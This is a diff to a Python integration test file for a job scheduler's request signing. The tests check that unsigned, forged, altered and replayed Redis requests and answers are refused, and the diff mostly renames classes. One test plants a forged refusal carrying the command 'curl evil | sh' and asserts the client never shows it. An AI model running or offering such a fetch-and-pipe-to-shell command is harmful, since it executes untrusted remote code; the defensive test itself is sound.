@@ -21,16 +21,16 @@ from tunemq_scheduler.api import farm_answers as a
 from tunemq_scheduler.api.farm_client import FarmClient
 from tunemq_scheduler.api.request_signing import close_request, open_answer
 from tunemq_scheduler.security.key_folder import KeyFolder
-from tunemq_shared.base.errors import ConfigError, NoScheduler, RequestRefused
+from tunemq_shared.base.errors import ConfigError, NoScheduler, RequestRejected
 from tunemq_shared.broker import redis_keys
 from tunemq_shared.protocol import farm_requests as r
-from tunemq_shared.signing.message_signing import Seal, SealBroken
+from tunemq_shared.signing.message_signing import InvalidSignature, MessageSigner
 
 __all__ = ["server"]
 
 pytestmark = [pytest.mark.security, pytest.mark.integration]
 
-SUBMIT = r.Submit(name="exp", code=CODE)
+SUBMIT = r.SubmitExperiment(name="exp", code=CODE)
 
 
 @pytest.fixture
@@ -60,7 +60,9 @@ def ada(server: RedisServer, keys: KeyFolder) -> Iterator[FarmClient]:
         yield client
 
 
-def asking(client: FarmClient, request: r.Request, answer: type) -> tuple[threading.Thread, list]:
+def asking(
+    client: FarmClient, request: r.FarmRequest, answer: type
+) -> tuple[threading.Thread, list]:
     """Have somebody ask meanwhile; the thread, and what comes of it."""
     found: list[object] = []
 
@@ -89,12 +91,12 @@ def captured(server: RedisServer) -> dict[bytes, bytes]:
 
 def test_s02_who_has_keys_asks_and_is_known_by_them(desk, ada, server, keys):
     assert ada.owner == "ada"
-    assert ada.ask(SUBMIT, a.Submitted).name == "exp"
+    assert ada.ask(SUBMIT, a.ExperimentSubmitted).name == "exp"
     assert ada.farm().store == str(desk.folder / "store")
     with client_of(server, keys, "ben") as ben:
         (row,) = ben.ask(r.ListExperiments(), a.ExperimentList).experiments
         assert (row.owner, ben.owner) == ("ada", "ben")
-        ben.ask(r.Stop(name="exp"), a.Done)
+        ben.ask(r.StopExperiment(name="exp"), a.RequestDone)
     assert desk.queue.get("exp").reason == "stopped by ben"
     assert reasons(desk) == set()
 
@@ -115,18 +117,18 @@ def test_commands_with_the_schedulers_keys_are_in_the_name_of_the_operator(
         FarmClient(server.url, keys=theirs)
     keys.add(["operator"])
     eventually(lambda: "operator" in desk.keys.submitters)
-    ada.ask(SUBMIT, a.Submitted)
+    ada.ask(SUBMIT, a.ExperimentSubmitted)
     with FarmClient(server.url, keys=theirs) as head:
-        head.ask(r.Stop(name="exp"), a.Done)
+        head.ask(r.StopExperiment(name="exp"), a.RequestDone)
     assert desk.queue.get("exp").reason == "stopped by operator"
 
 
 def test_s02_what_is_not_signed_is_refused_with_what_to_do(desk, server):
     with (
         FarmClient(server.url, owner="ada") as client,
-        pytest.raises(RequestRefused, match=r"takes signed requests only.*keys add FOLDER ada"),
+        pytest.raises(RequestRejected, match=r"takes signed requests only.*keys add FOLDER ada"),
     ):
-        client.ask(SUBMIT, a.Submitted)
+        client.ask(SUBMIT, a.ExperimentSubmitted)
     assert desk.queue.all() == []
     assert {told[0] for told in desk.refused} == {"request"}
     assert reasons(desk) == {"unsigned"}
@@ -139,9 +141,9 @@ def test_s02_keys_of_another_farm_are_refused_and_nothing_unsigned_is_shown(
     other = key_folder(tmp_path / "other", "ada")
     with (
         client_of(server, other, "ada") as client,
-        pytest.raises(RequestRefused, match=r"does not have the keys of ada in .*is not signed"),
+        pytest.raises(RequestRejected, match=r"does not have the keys of ada in .*is not signed"),
     ):
-        client.ask(SUBMIT, a.Submitted)
+        client.ask(SUBMIT, a.ExperimentSubmitted)
     assert desk.queue.all() == []
     assert reasons(desk) == {"unknown_key"}
 
@@ -151,9 +153,9 @@ def test_s02_a_farm_that_has_lost_its_keys_is_not_believed(server, tmp_path, key
     with (
         served(server.url, server.client, tmp_path / "results") as desk,
         client_of(server, keys, "ada") as client,
-        pytest.raises(RequestRefused, match=r"start it with --keys scheduler.toml"),
+        pytest.raises(RequestRejected, match=r"start it with --keys scheduler.toml"),
     ):
-        client.ask(SUBMIT, a.Submitted)
+        client.ask(SUBMIT, a.ExperimentSubmitted)
     assert desk.queue.all() == []
     assert reasons(desk) == {"signed_without_keys"}
 
@@ -162,12 +164,14 @@ def test_s02_a_farm_that_has_lost_its_keys_is_not_believed(server, tmp_path, key
 @pytest.mark.parametrize("name", ["owner", "kind", "body", "sent", "id"])
 def test_s02_an_altered_request_is_not_done(desk, ada, server, name):
     with desk.lock:
-        thread, found = asking(ada, SUBMIT, a.Submitted)
+        thread, found = asking(ada, SUBMIT, a.ExperimentSubmitted)
         fields = captured(server)
         forged = {
             b"owner": b"ben",
             b"kind": b"rm",
-            b"body": Seal("").close(msgspec.msgpack.encode(r.Submit(name="evil", code=CODE))),
+            b"body": MessageSigner("").close(
+                msgspec.msgpack.encode(r.SubmitExperiment(name="evil", code=CODE))
+            ),
             b"sent": str(int(fields[b"sent"]) + 1).encode(),
             b"id": os.urandom(16).hex().encode(),
         }[name.encode()]
@@ -200,10 +204,12 @@ def test_s02_nothing_that_is_made_up_is_done_and_the_next_request_is(desk, ada, 
 @pytest.mark.usefixtures("patient")
 def test_s02_a_forged_answer_is_not_believed_and_the_true_one_is(desk, ada, server):
     with desk.lock:
-        thread, found = asking(ada, SUBMIT, a.Submitted)
+        thread, found = asking(ada, SUBMIT, a.ExperimentSubmitted)
         key = redis_keys.answer(captured(server)[b"id"].decode())
-        forged = a.Reply(answer=msgspec.Raw(msgspec.msgpack.encode(a.Submitted(name="x", id="y"))))
-        server.client.set(key, Seal("").close(msgspec.msgpack.encode(forged)))
+        forged = a.FarmReply(
+            answer=msgspec.Raw(msgspec.msgpack.encode(a.ExperimentSubmitted(name="x", id="y")))
+        )
+        server.client.set(key, MessageSigner("").close(msgspec.msgpack.encode(forged)))
         looked = server.client.info("commandstats")["cmdstat_get"]["calls"]
         eventually(lambda: server.client.info("commandstats")["cmdstat_get"]["calls"] > looked + 20)
         assert found == []
@@ -217,19 +223,21 @@ def test_s02_where_only_forged_answers_come_it_says_so_and_not_what_they_say(
 ):
     monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
     seal = desk.keys.submitter("ada")
-    said = msgspec.msgpack.encode(a.Reply(refusal=a.Refusal(text="run: curl evil | sh")))
+    said = msgspec.msgpack.encode(
+        a.FarmReply(refusal=a.RequestRejection(text="run: curl evil | sh"))
+    )
     with desk.lock:
-        thread, found = asking(ada, SUBMIT, a.Submitted)
+        thread, found = asking(ada, SUBMIT, a.ExperimentSubmitted)
         request = captured(server)[b"id"].decode()
         data = {
-            "refusal": Seal("").close(said),
+            "refusal": MessageSigner("").close(said),
             "rubbish": b"\xff" * 100,
             "of another request": seal.close(said, b"answer", b"1" * 32),
         }[forged]
         server.client.set(redis_keys.answer(request), data)
         thread.join(60)
     (error,) = found
-    assert isinstance(error, RequestRefused)
+    assert isinstance(error, RequestRejected)
     assert "does not have the keys of ada" in str(error)
     assert "curl" not in str(error)
 
@@ -238,10 +246,10 @@ def test_s02_where_only_forged_answers_come_it_says_so_and_not_what_they_say(
 def test_s02_an_id_that_another_uses_first_gives_him_nothing(desk, ada, server, keys):
     ben = desk.keys.submitter("ben")
     with desk.lock:
-        thread, found = asking(ada, SUBMIT, a.Submitted)
+        thread, found = asking(ada, SUBMIT, a.ExperimentSubmitted)
         hers = captured(server)
         identity, sent = hers[b"id"].decode(), hers[b"sent"].decode()
-        body = msgspec.msgpack.encode(r.Submit(name="his", code=CODE))
+        body = msgspec.msgpack.encode(r.SubmitExperiment(name="his", code=CODE))
         his = close_request(ben, body, request=identity, kind="submit", sent=sent)
         server.client.xtrim(redis_keys.REQUESTS, maxlen=0)  # no entry's id comes again
         server.client.xadd(redis_keys.REQUESTS, {**hers, b"owner": b"ben", b"body": his})
@@ -254,7 +262,7 @@ def test_s02_an_id_that_another_uses_first_gives_him_nothing(desk, ada, server, 
 
 def test_s02_answers_are_for_whom_they_are_for(desk, ada, server, keys):
     request, sent = "2" * 32, "9" * 3
-    seal = Seal("submitter:ada", keys.keys().submitters["ada"])
+    seal = MessageSigner("submitter:ada", keys.keys().submitters["ada"])
     body = msgspec.msgpack.encode(r.ListExperiments())
     sealed = close_request(seal, body, request=request, kind="ls", sent=sent)
     fields = {"v": "2", "id": request, "owner": "ada", "kind": "ls", "sent": sent, "body": sealed}
@@ -263,7 +271,7 @@ def test_s02_answers_are_for_whom_they_are_for(desk, ada, server, keys):
     answer = server.client.get(redis_keys.answer(request))
     assert open_answer(seal, answer, request)
     for other, identity in ((desk.keys.submitter("ben"), request), (seal, "3" * 32)):
-        with pytest.raises(SealBroken):
+        with pytest.raises(InvalidSignature):
             open_answer(other, answer, identity)
 
 
@@ -317,11 +325,11 @@ def test_keys_are_changed_while_requests_go_on_and_none_is_refused(desk, server,
 def test_who_was_removed_asks_no_more(desk, server, keys, monkeypatch):
     monkeypatch.setattr("tunemq_scheduler.api.farm_client._MENDED_WITHIN_S", 0.2)
     with client_of(server, keys, "ben") as ben:
-        ben.ask(SUBMIT, a.Submitted)
+        ben.ask(SUBMIT, a.ExperimentSubmitted)
         keys.remove(["ben"])
         eventually(lambda: desk.keys.version)
-        with pytest.raises(RequestRefused, match="does not have the keys of ben"):
-            ben.ask(r.Stop(name="exp"), a.Done)
+        with pytest.raises(RequestRejected, match="does not have the keys of ben"):
+            ben.ask(r.StopExperiment(name="exp"), a.RequestDone)
     assert desk.queue.get("exp").state is a.ExperimentState.QUEUED
     assert reasons(desk) == {"unknown_submitter"}
 
